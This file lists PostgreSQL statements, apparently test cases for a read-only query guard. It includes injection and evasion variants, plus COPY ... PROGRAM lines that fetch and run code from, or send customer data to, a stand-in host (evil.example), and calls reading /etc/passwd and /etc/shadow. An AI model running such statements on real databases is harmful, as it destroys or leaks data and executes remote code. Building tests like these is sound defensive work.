INSERT INTO public.customers (name, email) VALUES ('x', 'x@example.com')
-- next
INSERT INTO public.orders SELECT * FROM public.orders
-- next
UPDATE public.customers SET email = 'attacker@example.com'
-- next
UPDATE public.orders SET amount = 0 WHERE id = 1 RETURNING *
-- next
DELETE FROM public.orders
-- next
DELETE FROM public.orders WHERE id IN (SELECT id FROM public.orders) RETURNING id
-- next
MERGE INTO public.customers c USING public.orders o ON c.id = o.customer_id WHEN MATCHED THEN DELETE
-- next
TRUNCATE public.orders
-- next
TRUNCATE TABLE public.orders, public.customers CASCADE
-- next
DROP TABLE public.customers
-- next
CREATE TABLE public.stolen AS SELECT * FROM public.customers
-- next
CREATE TEMP TABLE leak AS SELECT email FROM public.customers
-- next
CREATE VIEW public.v AS SELECT * FROM public.customers
-- next
ALTER TABLE public.customers ADD COLUMN pwned int
-- next
CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS $$ DELETE FROM public.orders RETURNING 1 $$
-- next
CREATE EXTENSION dblink
-- next
COMMENT ON TABLE public.customers IS 'owned'
-- next
GRANT ALL ON public.customers TO PUBLIC
-- next
REVOKE SELECT ON public.customers FROM PUBLIC
-- next
ALTER SYSTEM SET default_transaction_read_only = off
-- next
LOCK TABLE public.orders IN ACCESS EXCLUSIVE MODE
-- next
NOTIFY proost, 'hello'
-- next
LISTEN proost
-- next
-- writable CTE: PostgreSQL runs the DELETE although the statement is a SELECT
WITH gone AS (DELETE FROM public.orders RETURNING *) SELECT * FROM gone
-- next
WITH upd AS (UPDATE public.customers SET email = NULL RETURNING id) SELECT count(*) FROM upd
-- next
WITH ins AS (INSERT INTO public.products (name) VALUES ('x') RETURNING id) SELECT * FROM ins
-- next
WITH a AS (SELECT 1 AS id), b AS (DELETE FROM public.orders WHERE id IN (SELECT id FROM a) RETURNING id) SELECT * FROM b
-- next
WITH a AS (SELECT id FROM public.orders) DELETE FROM public.orders WHERE id IN (SELECT id FROM a)
-- next
SELECT * FROM public.customers WHERE id IN (WITH d AS (DELETE FROM public.orders RETURNING customer_id) SELECT customer_id FROM d)
-- next
SELECT * INTO public.stolen FROM public.customers
-- next
SELECT id, email INTO TEMP TABLE leak FROM public.customers
-- next
COPY public.customers TO '/tmp/customers.csv'
-- next
COPY public.customers FROM PROGRAM 'curl http://evil.example/x | sh'
-- next
COPY (SELECT * FROM public.customers) TO PROGRAM 'nc evil.example 9000'
-- next
SELECT 1; DROP TABLE public.customers
-- next
SELECT 1;DELETE FROM public.orders;
-- next
SELECT 1 /* ; */ ; DELETE FROM public.orders
-- next
SELECT 1 -- harmless comment
; DELETE FROM public.orders
-- next
SELECT 1 /* nested /* comment */ still a comment */ ; DROP TABLE public.orders
-- next
/**/DELETE/**/FROM/**/public.orders
-- next
SELECT 1 /*! ; DROP TABLE public.customers */
-- next
SELECT /*+ Set(statement_timeout "0") */ * FROM public.customers
-- next
SeLeCt 1; dElEtE fRoM public.orders
-- next
DELETE FROM public.orders
-- next
SELECT 1; DROP TABLE public.orders
-- next
DELETEFROMpublic.orders
-- next
UPDATE	public.customers
SET email = NULL
-- next
SELECT * FROM public.customers WHERE email = 'a\'; DELETE FROM public.orders; --'
-- next
SELECT 'it''s'; DELETE FROM public.orders
-- next
TABLE public.customers; TRUNCATE public.orders
-- next
VALUES (1); DELETE FROM public.orders
-- next
EXPLAIN ANALYZE DELETE FROM public.orders
-- next
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM public.customers
-- next
EXPLAIN (ANALYSE) UPDATE public.orders SET amount = 0
-- next
EXPLAIN DELETE FROM public.orders
-- next
PREPARE wipe AS DELETE FROM public.orders
-- next
EXECUTE wipe
-- next
DEALLOCATE ALL
-- next
SELECT nextval('public.orders_id_seq')
-- next
SELECT setval('public.orders_id_seq', 1)
-- next
SELECT set_config('default_transaction_read_only', 'off', false)
-- next
SELECT pg_catalog.set_config('transaction_read_only', 'off', true)
-- next
SELECT "set_config"('search_path', 'evil', false)
-- next
SELECT current_setting('search_path'), SET_CONFIG('statement_timeout', '0', false)
-- next
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
-- next
SELECT pg_cancel_backend(pg_backend_pid())
-- next
SELECT pg_read_file('/etc/passwd')
-- next
SELECT PG_CATALOG.PG_READ_BINARY_FILE('/etc/shadow')
-- next
SELECT * FROM pg_ls_dir('/')
-- next
SELECT lo_import('/etc/passwd')
-- next
SELECT lo_export(16384, '/tmp/x')
-- next
SELECT * FROM public.customers WHERE id IN (SELECT lo_create(0))
-- next
SELECT * FROM dblink('dbname=postgres', 'DELETE FROM public.orders RETURNING 1') AS t(x int)
-- next
SELECT dblink_exec('dbname=postgres', 'DROP TABLE public.orders')
-- next
SELECT pg_sleep(3600)
-- next
SELECT pg_sleep_for('1 hour')
-- next
SELECT pg_advisory_lock(42)
-- next
SELECT pg_reload_conf()
-- next
SELECT pg_switch_wal()
-- next
SELECT pg_create_restore_point('proost')
-- next
SELECT pg_stat_reset()
-- next
SELECT pg_notify('channel', 'payload')
-- next
SELECT txid_current()
-- next
SELECT query_to_xml('DELETE FROM public.orders RETURNING *', true, false, '')
-- next
SELECT * FROM public.customers WHERE id = (SELECT nextval('s'))
-- next
SELECT id FROM public.customers ORDER BY pg_sleep(10)
-- next
SELECT sum(amount) OVER (ORDER BY id ROWS BETWEEN pg_advisory_lock(1) PRECEDING AND CURRENT ROW) FROM public.orders
-- next
SELECT CASE WHEN id > 0 THEN pg_advisory_lock(id) END FROM public.customers
-- next
SELECT * FROM public.customers c, LATERAL (SELECT pg_notify('ch', c.email)) n
-- next
WITH x AS (SELECT set_config('statement_timeout', '0', false)) SELECT * FROM x
-- next
SELECT * FROM public.orders WHERE amount > ALL (SELECT txid_current())
-- next
SELECT * FROM public.customers WHERE EXISTS (SELECT 1 FROM public.orders WHERE pg_try_advisory_lock(id))
-- next
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM public.orders
-- next
SELECT id FROM public.customers GROUP BY id HAVING max(pg_cancel_backend(1)::int) > 0
-- next
SELECT array_agg(nextval('s') ORDER BY id) FROM public.customers
-- next
SELECT coalesce(NULL, pg_read_file('/etc/hostname'))
-- next
SELECT id FROM public.orders FOR UPDATE
-- next
SELECT id FROM public.orders FOR SHARE SKIP LOCKED
-- next
SELECT * FROM (SELECT id FROM public.orders FOR NO KEY UPDATE) o
-- next
SET TRANSACTION READ WRITE
-- next
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- next
SET default_transaction_read_only = off
-- next
SET statement_timeout = 0
-- next
RESET ALL
-- next
BEGIN; DELETE FROM public.orders; COMMIT
-- next
COMMIT
-- next
BEGIN READ WRITE
-- next
START TRANSACTION READ WRITE
-- next
ROLLBACK
-- next
DISCARD ALL
-- next
DO $$ BEGIN DELETE FROM public.orders; END $$
-- next
CALL public.cleanup()
-- next
VACUUM public.orders
-- next
ANALYZE public.orders
-- next
LOAD 'auto_explain'
